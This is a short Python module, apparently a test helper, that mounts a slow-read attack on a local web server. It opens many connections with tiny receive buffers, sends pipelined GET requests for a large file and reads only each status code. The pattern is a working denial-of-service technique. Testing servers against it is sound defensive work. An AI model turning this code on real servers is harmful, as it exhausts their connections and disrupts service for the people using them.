"""The attack: readers that ask for a large file and then take nothing of it."""

import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager


def ask(port: int, path: str, cookie: str, times: int = 1) -> socket.socket:
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # before connecting: it limits what TCP takes
    connection.settimeout(60)
    connection.connect(("127.0.0.1", port))
    connection.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\nCookie: {cookie}\r\n\r\n".encode() * times)
    return connection


def read_status(connection: socket.socket) -> int:
    """Waits for the first bytes of the answer."""
    return int(connection.recv(12)[9:12] or 0)


@contextmanager
def asleep(port: int, path: str, cookie: str, number: int, times: int = 1) -> Iterator[list[int]]:
    """So many of them, each with so many requests at once, and the status that each got."""
    with ExitStack() as stack:
        readers = [stack.enter_context(ask(port, path, cookie, times)) for _ in range(number)]
        yield [read_status(reader) for reader in readers]
